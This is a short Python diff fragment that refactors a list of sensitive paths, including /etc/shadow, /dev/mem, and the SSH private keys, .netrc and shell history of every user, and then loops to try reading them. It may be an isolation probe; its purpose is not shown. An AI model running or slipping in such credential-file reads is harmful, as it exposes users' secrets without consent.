@@ -5,9 +5,9 @@ SOURCES = {
 import glob
 import os
 
-names = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/machine-id", "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg"]
+names = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/machine-id", "/proc/kcore", "/proc/kmsg", "/dev/mem"]
 for home in [os.path.expanduser("~"), "/root", *glob.glob("/home/*")]:
-    names += [f"{home}/.ssh/id_rsa", f"{home}/.bash_history", f"{home}/.netrc", f"{home}/.gitconfig", f"{home}/.profile"]
+    names += [f"{home}/{name}" for name in (".ssh/id_rsa", ".bash_history", ".netrc", ".profile", ".bashrc")]
 worked = False
 for name in names:
     try:
